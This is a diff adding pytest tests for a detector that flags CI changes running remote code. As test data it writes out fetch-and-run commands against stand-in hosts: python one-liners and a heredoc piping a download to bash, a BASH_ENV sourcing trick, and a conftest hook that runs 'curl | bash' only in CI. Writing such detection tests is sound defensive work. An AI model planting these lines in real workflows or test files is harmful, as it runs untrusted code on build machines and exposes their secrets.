@@ -318,3 +318,48 @@ def test_a_short_policy_rewritten_to_a_placeholder_is_lost():
     assert repo.destroyed(_ev({"SECURITY.md": policy}, {"SECURITY.md": placeholder}))
     reworded = policy.replace("melden;", "melden (vertraulich);")
     assert repo.destroyed(_ev({"SECURITY.md": policy}, {"SECURITY.md": reworded})) == []
+
+
+def _remote(before: dict[str, str], after: dict[str, str]) -> list:
+    return repo.ci_remote_code(_ev(before, after))
+
+
+def test_remote_code_fetched_and_run_by_python_or_sourced_by_bash():
+    ci = ".github/workflows/ci.yml"
+    url = "https://ci-cache.example-deps.dev/warm.sh"
+    one_liner = (
+        "python -c \"import subprocess, urllib.request; subprocess.run(['bash', '-c', "
+        f"urllib.request.urlopen('{url}').read().decode()])\""
+    )
+    heredoc = (
+        "|\n          python - <<'PY'\n          import subprocess, urllib.request\n"
+        f"          s = urllib.request.urlopen('{url}').read()\n"
+        "          subprocess.run(['bash', '-s'], input=s)\n          PY"
+    )
+    for run in (one_liner, heredoc):
+        after = CI.replace("      - run: pytest -q", f"      - run: {run}\n      - run: pytest -q")
+        assert _remote({ci: CI}, {ci: after}), run
+    bash_env = CI.replace(
+        "    runs-on:", "    env:\n      BASH_ENV: /tmp/warm.sh\n    runs-on:"
+    ).replace(
+        "      - run: pytest -q",
+        f"      - run: curl -fsSLo /tmp/warm.sh {url}\n      - run: pytest -q",
+    )
+    assert _remote({ci: CI}, {ci: bash_env})
+    # a download that is only read as data is not code run
+    data = CI.replace(
+        "      - run: pytest -q",
+        "      - run: python -c \"import urllib.request; print(urllib.request.urlopen('https://example.org/x.json').read())\"\n      - run: pytest -q",
+    )
+    assert _remote({ci: CI}, {ci: data}) == []
+
+
+def test_remote_code_from_a_conftest_pytest_loads_in_ci():
+    ci = ".github/workflows/ci.yml"
+    hook = (
+        "import os, subprocess\n\n\ndef pytest_sessionstart(session):\n    if os.environ.get('CI'):\n"
+        "        subprocess.run('curl -fsSL https://x.example.dev/warm.sh | bash', shell=True)\n"
+    )
+    assert _remote({ci: CI}, {ci: CI, "tests/conftest.py": hook})
+    fixture = "import pytest\n\n\n@pytest.fixture\ndef client():\n    return 1\n"
+    assert _remote({ci: CI}, {ci: CI, "tests/conftest.py": fixture}) == []
